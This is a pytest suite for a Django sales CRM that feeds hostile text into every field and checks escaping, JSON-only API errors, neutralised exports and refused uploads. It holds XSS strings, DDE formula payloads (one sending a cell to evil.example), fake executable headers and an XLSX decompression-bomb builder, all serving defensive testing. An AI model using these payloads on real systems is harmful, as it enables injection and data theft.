"""Abuse by text: every text field a user can fill, holding hostile values (markup, quotes,
an RTL override, Arabic and Hebrew, template syntax, a 5,000-character string), rendered by every
page, dialog and fragment that shows it, as the owner and as a manager: markup never comes out
raw, its escaped form does; JSON embedded in pages cannot close its script element; the API
answers JSON (the raw text as data) and its errors never come back as HTML; exports neutralise
the formulas a spreadsheet would run (DDE payloads included); the import page refuses files
that are too large or not what their name says, and keeps nothing of them."""

import csv
import datetime as dt
import io
import json
import re
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.urls import Resolver404, resolve
from django.utils.html import escape
from openpyxl import load_workbook

from loudou.api.services import token_create
from loudou.core import clock
from loudou.customers.models import Account
from loudou.customers.services import account_create, account_qualify, contact_create
from loudou.interop import runs
from loudou.interop.models import ImportRun
from loudou.org.services import user_create
from loudou.pipeline import services as ps
from loudou.pipeline.models import Opportunity, OpportunityHistory
from tests.conftest import (
    INTENT_EVIDENCE,
    NEGOTIATION_EVIDENCE,
    PROJECT_EVIDENCE,
    RECOGNITION_EVIDENCE,
    credit_code,
)

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
QUOTES = "'\""
RTL = "\u202egnp.exe\u202c"
BIDI = "شركة الكهرباء חברת החשמל"
TEMPLATE = "{{ 7|add:7 }}{% now 'Y' %}"
PARTS = [SCRIPT, IMG, QUOTES, RTL, BIDI, TEMPLATE]
# What may never come out of a page as markup.
RAW = ["<script>alert(1)", "<img src=x onerror", "alert(1)</script>"]
ESCAPED_SCRIPT = "&lt;script&gt;alert(1)&lt;/script&gt;"
LONG = ("长文本" + SCRIPT + "x" * 72) * 50  # 5,000 characters
assert len(LONG) == 5000


def hostile(tag: str, limit: int = 200) -> str:
    """`tag` then as many hostile parts as fit in `limit` characters (the field's length)."""
    text = tag
    for part in PARTS:
        if len(text) + len(part) > limit:
            break
        text += part
    assert SCRIPT in text
    return text


def marker(tag: str) -> str:
    """What a page shows of a hostile value, escaped, however much of it the page truncates."""
    return escape(tag + SCRIPT)


@dataclass
class World:
    """Users, an account and deals whose every text field is hostile."""

    owner: Any
    manager: Any
    account: Any
    contact: Any
    deals: dict[str, Any]
    tags: set[str] = field(default_factory=set)


def _client(user: Any) -> Client:
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    client.force_login(user)
    return client


@pytest.fixture
def world(org: dict[str, Any]) -> World:
    """A Beijing seller and manager with hostile display names; a target account and contact;
    deals at project (with every section filled), lost, regressed, and one waiting for 立项."""
    admin, beijing = org["admin"], org["beijing"]

    def person(name: str, role: str, level: str) -> Any:
        return user_create(
            actor=admin,
            username=name,
            password="loudou-test-pw-1",
            display_name=hostile(f"U-{name}:", 120),
            branch=beijing,
            job_role=role,
            access_level=level,
            check_password=False,
        )

    owner = person("evil_seller", "account_manager", "seller")
    manager = person("evil_manager", "branch_gm", "manager")
    mate = person("evil_mate", "presales_consultant", "seller")
    account = account_create(
        actor=owner,
        name=hostile("ACC-NAME:"),
        credit_code=credit_code(66),
        industry="power",
        size_band="large",
        organisations_count=12,
        it_need=hostile("ACC-NEED:", 5000) + LONG,
        product_fit=hostile("ACC-FIT:", 5000),
    )
    account_qualify(account=account, actor=manager, override=True, reason=hostile("ACC-QUAL:"))
    contact = contact_create(
        account=account,
        actor=owner,
        name=hostile("CON-NAME:", 120),
        title=hostile("CON-TITLE:", 120),
        phone=SCRIPT,
        email="javascript:alert(1)",
        selection_part="decision_maker",
    )
    close = clock.today() + dt.timedelta(days=30)

    def create(tag: str) -> Any:
        return ps.opportunity_create(
            actor=owner,
            account=account,
            name=hostile(f"{tag}-NAME:"),
            amount="1000000",
            close_date=close,
            need=hostile(f"{tag}-NEED:", 5000) + LONG,
            source=hostile(f"{tag}-SRC:", 120),
            evidence={"need_found": hostile(f"{tag}-EV0:", 5000)},
        )

    def ev(tag: str, evidence: dict[str, str]) -> dict[str, str]:
        return {k: hostile(f"{tag}-EV-{k}:", 5000) for k in evidence}

    # The main deal, at project, every section filled.
    main = create("MAIN")
    main = ps.opportunity_advance(
        opportunity=main, to_stage="intent", actor=owner, evidence=ev("MAIN", INTENT_EVIDENCE)
    )
    ps.competitor_add(
        opportunity=main, actor=owner, name=hostile("COMP:", 120), notes=hostile("COMPN:", 5000)
    )
    ps.key_date_set(
        opportunity=main, actor=owner, kind="custom", planned=close, label=hostile("KD:", 120)
    )
    ps.key_date_set(opportunity=main, actor=owner, kind="bid", planned=close)
    ps.team_member_add(opportunity=main, actor=owner, user=mate, role="presales_consultant")
    approval = ps.approval_request(
        opportunity=main,
        actor=owner,
        requirement=hostile("APR-REQ:", 5000),
        budget="1200000",
        timeline=hostile("APR-TL:", 5000),
        selection_team=hostile("APR-SEL:", 5000),
        competition=hostile("APR-COMP:", 5000),
        strategy=hostile("APR-STRAT:", 5000),
    )
    ps.approval_decide(
        approval=approval, actor=manager, approve=True, comment=hostile("APR-OK:", 5000)
    )
    main = ps.opportunity_advance(
        opportunity=main, to_stage="project", actor=owner, evidence=ev("MAIN", PROJECT_EVIDENCE)
    )
    lines = [
        {"category": "software", "description": hostile("QL1:"), "unit_price": "600000"},
        {"category": "implementation", "description": hostile("QL2:"), "unit_price": "3000"},
        {"category": "services", "description": hostile("QL3:"), "unit_price": "100000"},
    ]
    ps.quote_create(
        opportunity=main,
        actor=owner,
        kind="preliminary",
        lines=lines,
        notes=hostile("QN:", 5000),
        submit=True,
    )
    objection = ps.objection_raise(opportunity=main, actor=owner, text=hostile("OBJ:", 5000))
    ps.objection_answer(objection=objection, actor=owner, answer=hostile("ANS:", 5000))
    ps.objection_raise(opportunity=main, actor=owner, text=hostile("OBJQ:", 5000))
    done = ps.activity_plan(
        opportunity=main,
        actor=owner,
        kind="visit",
        subject=hostile("ACT1:"),
        due_on=clock.today() - dt.timedelta(days=3),
        notes=hostile("ACTN:", 5000),
    )
    ps.activity_complete(activity=done, actor=owner, outcome=hostile("ACTO:", 5000))
    ps.activity_plan(
        opportunity=main,
        actor=owner,
        kind="call",
        subject=hostile("ACT2:"),
        due_on=clock.today() - dt.timedelta(days=1),  # overdue: the dashboard lists it
        owner=owner,
    )
    main = ps.opportunity_advance(
        opportunity=main,
        to_stage="recognition",
        actor=owner,
        evidence=ev("MAIN", RECOGNITION_EVIDENCE),
    )
    ps.quote_create(
        opportunity=main,
        actor=owner,
        kind="preliminary",
        lines=[lines[0]],
        notes=hostile("QN2:", 5000),
    )
    # A manager's gate override with a hostile reason.
    main = ps.opportunity_advance(
        opportunity=main,
        to_stage="negotiation",
        actor=manager,
        evidence=ev("MAIN", NEGOTIATION_EVIDENCE),
        override_reason=hostile("OVR:", 5000),
    )
    main = ps.opportunity_regress(
        opportunity=main, to_stage="recognition", actor=owner, reason=hostile("REG:", 5000)
    )
    main = ps.opportunity_update(
        opportunity=main, actor=owner, amount="1100000", reason=hostile("UPD:", 5000)
    )

    lost = ps.opportunity_lose(
        opportunity=create("LOST"),
        actor=owner,
        reason="price",
        note=hostile("LOSTN:", 5000),
        lost_to=hostile("LOSTTO:", 120),
    )
    waiting = ps.opportunity_advance(
        opportunity=create("WAIT"), to_stage="intent", actor=owner, evidence=INTENT_EVIDENCE
    )
    ps.approval_request(
        opportunity=waiting,
        actor=owner,
        requirement=hostile("WAPR-REQ:", 5000),
        budget="900000",
        timeline=hostile("WAPR-TL:", 5000),
        selection_team=hostile("WAPR-SEL:", 5000),
        competition=hostile("WAPR-COMP:", 5000),
        strategy=hostile("WAPR-STRAT:", 5000),
    )
    token_create(actor=owner, name=hostile("TOKEN:", 100))
    return World(
        owner=owner,
        manager=manager,
        account=account,
        contact=contact,
        deals={"main": main, "lost": lost, "wait": Opportunity.objects.get(pk=waiting.pk)},
    )


def assert_escaped(html: str, where: str, tags: list[str]) -> None:
    """No hostile markup comes out raw; each tag's value is there, escaped; JSON embedded in the
    page keeps `<` and `>` escaped so that it cannot close its script element."""
    for raw in RAW:
        assert raw not in html, f"{where}: raw {raw!r} at {html.find(raw)}"
    assert ESCAPED_SCRIPT in html, f"{where}: no escaped value at all"
    missing = [t for t in tags if marker(t) not in html]
    assert not missing, f"{where}: {missing} not shown escaped"
    for body in re.findall(
        r"<script[^>]*type=\"application/json\"[^>]*>(.*?)</script>", html, re.S
    ):
        assert "<" not in body and ">" not in body, f"{where}: {body[:200]}"
        json.loads(body)


def pages(w: World) -> list[tuple[str, list[str]]]:
    """(url, tags the page must show) for the pages both the owner and the manager read."""
    main, lost, wait = w.deals["main"], w.deals["lost"], w.deals["wait"]
    deal_tags = [
        "MAIN-NAME:",
        "ACC-NAME:",
        "MAIN-NEED:",
        "MAIN-SRC:",
        "MAIN-EV-recognises_us:",
        "COMP:",
        "KD:",
        "APR-REQ:",
        "APR-OK:",
        "QL1:",
        "QN:",
        "OBJ:",
        "ANS:",
        "OBJQ:",
        "ACT1:",
        "ACT2:",
        "OVR:",
        "REG:",
        "U-evil_seller:",
        "U-evil_mate:",
        "U-evil_manager:",
    ]
    found = [
        ("/", ["MAIN-NAME:", "ACT2:"]),
        ("/board/", ["MAIN-NAME:", "WAIT-NAME:", "ACC-NAME:"]),
        ("/opportunities/", ["MAIN-NAME:", "WAIT-NAME:", "ACC-NAME:"]),
        ("/opportunities/?status=lost", ["LOST-NAME:"]),
        ("/opportunities/?" + "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", ["MAIN-NAME:"]),
        (f"/opportunities/{main.pk}/", deal_tags),
        (f"/opportunities/{main.pk}/edit/", ["MAIN-NAME:", "MAIN-NEED:", "MAIN-SRC:"]),
        (f"/opportunities/{lost.pk}/", ["LOST-NAME:", "LOSTN:", "LOSTTO:"]),
        (f"/opportunities/{wait.pk}/", ["WAIT-NAME:", "WAPR-REQ:", "WAPR-STRAT:"]),
        ("/accounts/", ["ACC-NAME:"]),
        ("/accounts/?q=%3Cscript%3E", ["ACC-NAME:"]),
        (
            f"/accounts/{w.account.pk}/",
            ["ACC-NAME:", "ACC-NEED:", "ACC-FIT:", "CON-NAME:", "CON-TITLE:", "MAIN-NAME:"],
        ),
        (f"/accounts/{w.account.pk}/edit/", ["ACC-NAME:", "ACC-NEED:", "ACC-FIT:"]),
        (
            f"/accounts/{w.account.pk}/contacts/{w.contact.pk}/edit/",
            ["CON-NAME:", "CON-TITLE:"],
        ),
        ("/approvals/", ["WAIT-NAME:"]),
        ("/funnel/", ["U-evil_seller:"]),
        ("/funnel/deals/?stage=recognition", ["MAIN-NAME:"]),
        ("/funnel/deals/?stage=intent", ["WAIT-NAME:"]),
        ("/analytics/", []),
        ("/analytics/conversion/", []),
        ("/analytics/velocity/", []),
        ("/analytics/stalled/", []),
        ("/analytics/flow/", []),
        ("/analytics/forecast/", []),
        ("/preferences/", []),
    ]
    return found


ROLES = ["owner", "manager"]


def audit_pages(w: World) -> list[tuple[str, list[str]]]:
    """The audit log, global and per object, when the installation has it (managers read it)."""
    try:
        resolve("/audit/")
    except Resolver404:
        return []
    return [("/audit/", ["MAIN-NAME:", "U-evil_seller:"])]


@pytest.mark.parametrize("role", ROLES)
def test_every_page_shows_hostile_text_escaped(world: World, role: str) -> None:
    client = _client(getattr(world, role))
    checked = 0
    for url, tags in pages(world):
        response = client.get(url)
        assert response.status_code == 200, (url, response.status_code)
        html = response.content.decode()
        # A page with no user text at all (analytics of an empty window) still shows the
        # user's own hostile name in the top bar: the escaped form is always there.
        assert_escaped(html, f"{role} {url}", tags)
        checked += 1
    assert checked >= 25


def test_owner_only_pages(world: World) -> None:
    client = _client(world.owner)
    html = client.get("/preferences/tokens/").content.decode()
    assert_escaped(html, "tokens", ["TOKEN:"])


def test_manager_only_pages(world: World) -> None:
    client = _client(world.manager)
    for url, tags in [
        ("/?view=team", ["MAIN-NAME:"]),
        ("/approvals/", ["WAIT-NAME:", "WAPR-REQ:", "U-evil_seller:"]),
        ("/import/", ["U-evil_seller:"]),  # the default-owner choice
        *audit_pages(world),
    ]:
        response = client.get(url)
        assert response.status_code == 200, url
        assert_escaped(response.content.decode(), url, tags)


def _move(client: Client, opp: Any, **data: str) -> Any:
    return client.post(
        f"/opportunities/{opp.pk}/move/",
        {"version": str(opp.version), "from": "page", **data},
        HTTP_HX_REQUEST="true",
    )


@pytest.mark.parametrize("role", ROLES)
def test_move_dialogs_show_hostile_text_escaped(world: World, role: str) -> None:
    client = _client(getattr(world, role))
    main, lost, wait = world.deals["main"], world.deals["lost"], world.deals["wait"]
    before = OpportunityHistory.objects.count()
    dialogs = [
        ("gate", _move(client, wait, to_stage="project"), ["WAIT-NAME:"]),
        ("lose", _move(client, main, to_stage="__lost__"), ["MAIN-NAME:", "COMP:"]),
        ("regress", _move(client, main, to_stage="intent"), ["MAIN-NAME:"]),
        ("reopen", _move(client, lost, to_stage="__reopen__"), ["LOST-NAME:"]),
        # Refused moves echo what was typed: it comes back escaped.
        (
            "lose refused",
            _move(client, main, to_stage="__lost__", reason="no-such", note=SCRIPT + IMG),
            ["MAIN-NAME:"],
        ),
        (
            "gate refused",
            _move(
                client,
                wait,
                to_stage="project",
                **{"evidence.project.guiding": SCRIPT + IMG},
            ),
            ["WAIT-NAME:"],
        ),
    ]
    for name, response, tags in dialogs:
        # 409: the gate dialog after a refused move says what is missing.
        assert response.status_code in (200, 400, 409), (name, response.status_code)
        assert_escaped(response.content.decode(), f"{role} {name}", tags)
    assert OpportunityHistory.objects.count() == before


def test_refused_section_forms_echo_hostile_input_escaped(world: World) -> None:
    client = _client(world.owner)
    main = world.deals["main"]
    posts = [
        ("evidence/", {"criterion": "no.such", "note": SCRIPT + IMG}),
        ("competitors/", {"name": SCRIPT + IMG, "kind": "no-such-kind"}),
        ("objections/", {"text": "   "}),
        ("activities/", {"kind": "visit", "subject": SCRIPT + IMG, "due_on": "not a date"}),
        ("quotes/", {"kind": "formal", "notes": SCRIPT + IMG}),
        ("key-dates/", {"kind": "custom", "label": SCRIPT + IMG, "planned": ""}),
    ]
    before = (OpportunityHistory.objects.count(), Opportunity.objects.get(pk=main.pk).version)
    for path, data in posts:
        response = client.post(f"/opportunities/{main.pk}/{path}", data, HTTP_HX_REQUEST="true")
        assert response.status_code == 400, (path, response.status_code)
        assert_escaped(response.content.decode(), path, ["MAIN-NAME:"])
    assert (OpportunityHistory.objects.count(), Opportunity.objects.get(pk=main.pk).version) == (
        before
    )


def test_plan_prefill_from_the_query_is_escaped(world: World) -> None:
    client = _client(world.owner)
    main = world.deals["main"]
    html = client.get(f"/opportunities/{main.pk}/", {"plan": SCRIPT + IMG}).content.decode()
    assert_escaped(html, "plan", ["MAIN-NAME:"])
    assert escape(SCRIPT + IMG) in html


def test_a_javascript_url_never_becomes_a_link(world: World) -> None:
    """The only link built from user text is the contact's mailto:, which cannot run script."""
    html = _client(world.owner).get(f"/accounts/{world.account.pk}/").content.decode()
    hrefs = re.findall(r'href="([^"]*)"', html)
    assert "mailto:javascript:alert(1)" in hrefs
    assert not [h for h in hrefs if h.strip().lower().startswith("javascript:")]


# --- the API: JSON, the raw text as data, errors never HTML ---------------------------------


def _api(user: Any) -> Client:
    _token, secret = token_create(actor=user, name="escaping test")
    return Client(HTTP_AUTHORIZATION=f"Bearer {secret}", HTTP_ACCEPT_LANGUAGE="en")


def test_the_api_returns_hostile_text_as_json_data(world: World) -> None:
    api = _api(world.owner)
    main = world.deals["main"]
    response = api.get(f"/api/v1/opportunities/{main.pk}")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/json")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response.json()["name"] == hostile("MAIN-NAME:")
    listed = api.get("/api/v1/opportunities", {"q": SCRIPT})
    assert listed["Content-Type"].startswith("application/json")
    account = api.get(f"/api/v1/accounts/{world.account.pk}").json()
    assert account["name"] == hostile("ACC-NAME:")


@pytest.mark.parametrize(
    ("method", "path", "body"),
    [
        ("post", "opportunities/{pk}/advance", {"to_stage": SCRIPT + IMG}),
        ("post", "opportunities/{pk}/lose", {"reason": SCRIPT + IMG}),
        ("patch", "opportunities/{pk}", {"name": "", "version": 1}),
        ("patch", "opportunities/{pk}", {"currency": SCRIPT}),
        ("get", "opportunities/999999", None),
        ("get", "opportunities?page=" + SCRIPT, None),
        ("post", "opportunities/{pk}/advance", SCRIPT),
    ],
)
def test_api_errors_are_problem_json_never_html(
    world: World, method: str, path: str, body: Any
) -> None:
    api = _api(world.owner)
    main = world.deals["main"]
    before = (OpportunityHistory.objects.count(), Opportunity.objects.get(pk=main.pk).version)
    url = "/api/v1/" + path.format(pk=main.pk)
    kwargs: dict[str, Any] = {}
    if body is not None:
        kwargs = {
            "data": body if isinstance(body, str) else json.dumps(body),
            "content_type": "application/json",
        }
    response = getattr(api, method)(url, **kwargs)
    assert 400 <= response.status_code < 500, (response.status_code, response.content[:300])
    assert response["Content-Type"].split(";")[0] in (
        "application/problem+json",
        "application/json",
    ), response["Content-Type"]
    assert not response["Content-Type"].startswith("text/html")
    json.loads(response.content)
    assert (OpportunityHistory.objects.count(), Opportunity.objects.get(pk=main.pk).version) == (
        before
    )


# --- exports: what the existing export tests do not try ----------------------------------

DDE = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "＝cmd|' /C calc'!A0",
]


@pytest.fixture
def dde_deals(walker: Any, org: dict[str, Any]) -> list[Any]:
    return [walker.create(name=f"{text}", amount="1000") for text in DDE]


def _csv(response: Any) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("url", ["/opportunities/", "/board/", "/funnel/deals/?stage=discover"])
def test_dde_payloads_are_neutralised_in_web_exports(
    dde_deals: list[Any], org: dict[str, Any], url: str
) -> None:
    client = _client(org["seller"])
    sep = "&" if "?" in url else "?"
    rows = _csv(client.get(f"{url}{sep}export=csv"))
    cells = [c for row in rows[1:] for c in row]
    for text in DDE:
        assert "'" + text in cells, (url, text)
        assert text not in cells, (url, text)
    response = client.get(f"{url}{sep}export=xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    found = {c.value: c for row in sheet.iter_rows(min_row=2) for c in row if c.value in set(DDE)}
    assert set(found) == set(DDE), url
    assert all(c.data_type == "s" and c.quotePrefix for c in found.values())


def test_dde_payloads_in_account_and_contact_exports(org: dict[str, Any]) -> None:
    seller = org["seller"]
    acc = account_create(
        actor=seller, name=DDE[0], credit_code=credit_code(88), organisations_count=1
    )
    contact_create(account=acc, actor=seller, name=DDE[1], title=DDE[2], phone="+86 138 0000")
    client = _client(seller)
    accounts = [c for row in _csv(client.get("/accounts/?export=csv"))[1:] for c in row]
    assert "'" + DDE[0] in accounts and DDE[0] not in accounts
    contacts = _csv(client.get(f"/accounts/{acc.pk}/?export=csv&list=contacts"))
    cells = [c for row in contacts[1:] for c in row]
    assert {"'" + DDE[1], "'" + DDE[2], "'+86 138 0000"} <= set(cells)


def test_api_csv_export_neutralises_dde(dde_deals: list[Any], org: dict[str, Any]) -> None:
    api = _api(org["seller"])
    response = api.get("/api/v1/exports/opportunities", {"format": "csv"})
    cells = [c for row in _csv(response)[1:] for c in row]
    for text in DDE:
        assert "'" + text in cells and text not in cells, text


# --- uploads: size and type, nothing kept -------------------------------------------------


@pytest.fixture
def uploads_dir(settings: Any, tmp_path: Path, monkeypatch: Any) -> Path:
    settings.MEDIA_ROOT = tmp_path / "media"
    monkeypatch.setattr(runs, "RUNNER", lambda job: job())
    return tmp_path / "media" / "imports"


def _zip(entries: dict[str, bytes]) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as z:
        for name, body in entries.items():
            z.writestr(name, body)
    return data.getvalue()


EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
NOT_A_WORKBOOK = _zip({"readme.txt": b"hello", "evil.exe": EXE})
GZIP = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + b"\x00" * 20


def _counts() -> tuple[int, ...]:
    return (
        Opportunity.objects.count(),
        OpportunityHistory.objects.count(),
        Account.objects.count(),
        ImportRun.objects.count(),
    )


def _upload(client: Client, name: str, data: bytes) -> Any:
    file = io.BytesIO(data)
    file.name = name
    return client.post("/import/", {"format": "native", "playbook": "project-funnel", "file": file})


@pytest.mark.parametrize(
    ("name", "data", "message", "zh"),
    [
        ("deals.csv", EXE, "is not a CSV or XLSX file", "不是 CSV 或 XLSX 文件"),
        ("deals.xlsx", EXE, "is not a CSV or XLSX file", "不是 CSV 或 XLSX 文件"),
        ("deals.csv", ELF, "is not a CSV or XLSX file", "不是 CSV 或 XLSX 文件"),
        ("deals.csv", GZIP, "is not a CSV or XLSX file", "不是 CSV 或 XLSX 文件"),
        ("deals.xlsx", NOT_A_WORKBOOK, "is not an Excel workbook", "不是 Excel 工作簿"),
        ("deals.csv", NOT_A_WORKBOOK, "is not an Excel workbook", "不是 Excel 工作簿"),
        ("deals.exe", b"Name,Account\nA,B\n", "is not a CSV or XLSX file", "不是 CSV 或 XLSX 文件"),
    ],
)
def test_files_of_the_wrong_type_are_refused_by_content(
    org: dict[str, Any], uploads_dir: Path, name: str, data: bytes, message: str, zh: str
) -> None:
    before = _counts()
    for language, expected in (("en", message), ("zh-hans", zh)):
        client = Client(HTTP_ACCEPT_LANGUAGE=language)
        client.force_login(org["manager"])
        response = _upload(client, name, data)
        assert response.status_code == 400
        html = response.content.decode()
        assert expected in html, (language, re.findall(r'class="error[^"]*">([^<]*)', html))
        assert escape(name) in html
    assert _counts() == before
    assert not uploads_dir.exists() or list(uploads_dir.iterdir()) == []


def test_a_file_over_the_real_limit_is_refused_unread(
    org: dict[str, Any], uploads_dir: Path
) -> None:
    """The real limit (not a patched one): one byte more than it is refused, with its size in
    the message, in English and Chinese, and nothing kept."""
    header = b"Name,Account,Amount\n"
    data = header + b"x" * (runs.MAX_UPLOAD_BYTES + 1 - len(header))
    before = _counts()
    limit_mb = runs.MAX_UPLOAD_BYTES // (1024 * 1024)
    assert limit_mb >= 1
    for language, expected in (
        ("en", f"is larger than {limit_mb} MB"),
        ("zh-hans", f"{limit_mb} MB"),
    ):
        client = Client(HTTP_ACCEPT_LANGUAGE=language)
        client.force_login(org["manager"])
        response = _upload(client, "big.csv", data)
        assert response.status_code == 400
        assert expected in response.content.decode(), language
    assert _counts() == before
    assert not uploads_dir.exists() or list(uploads_dir.iterdir()) == []


def _bomb(inflated: int) -> bytes:
    """A valid XLSX of a header and one row, padded with spaces between its rows so that its
    sheet inflates to `inflated` bytes; written in chunks (the padding never sits in memory)."""

    def row(r: int, values: list[bytes]) -> bytes:
        cells = b"".join(
            b'<c r="%s%d" t="inlineStr"><is><t>%s</t></is></c>' % (col, r, v)
            for col, v in zip([b"A", b"B", b"C"], values, strict=True)
        )
        return b'<row r="%d">%s</row>' % (r, cells)

    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        for name, body in BOOK_PARTS.items():
            z.writestr(name, body)
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(SHEET_HEAD + row(1, [b"Name", b"Account", b"Amount"]))
            chunk = b" " * (1024 * 1024)
            for _ in range(inflated // len(chunk) + 1):
                sheet.write(chunk)
            sheet.write(row(2, [b"A", b"B", b"100"]) + b"</sheetData></worksheet>")
    return data.getvalue()


def test_a_workbook_that_inflates_far_past_the_limit_is_refused(
    org: dict[str, Any], uploads_dir: Path
) -> None:
    """A decompression bomb: a 1 MB XLSX whose sheet inflates to ten times the upload limit
    (a 20 MB one would inflate to 20 GB, read again at every step of the import) is refused
    before it is read, like a file that large would be."""
    book = _bomb(10 * runs.MAX_UPLOAD_BYTES)
    assert len(book) < runs.MAX_UPLOAD_BYTES // 20
    before = _counts()
    response = _upload(_client(org["manager"]), "bomb.xlsx", book)
    assert response.status_code == 400, response.status_code
    assert "bomb.xlsx" in response.content.decode()
    assert _counts() == before
    assert not uploads_dir.exists() or list(uploads_dir.iterdir()) == []


CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    b'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
    b'openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="'
    b'application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.'
    b'openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/'
    b'worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    b'spreadsheetml.worksheet+xml"/></Types>'
)
ROOT_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    b'.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
    b'openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/'
    b'workbook.xml"/></Relationships>'
)
WORKBOOK = (
    b'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
    b'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships"><sheets><sheet name="Deals" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats'
    b'.org/spreadsheetml/2006/main"><sheetData>'
)
WORKBOOK_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    b'.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
    b'openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/'
    b'sheet1.xml"/></Relationships>'
)
BOOK_PARTS = {
    "[Content_Types].xml": CONTENT_TYPES,
    "_rels/.rels": ROOT_RELS,
    "xl/workbook.xml": WORKBOOK,
    "xl/_rels/workbook.xml.rels": WORKBOOK_RELS,
}
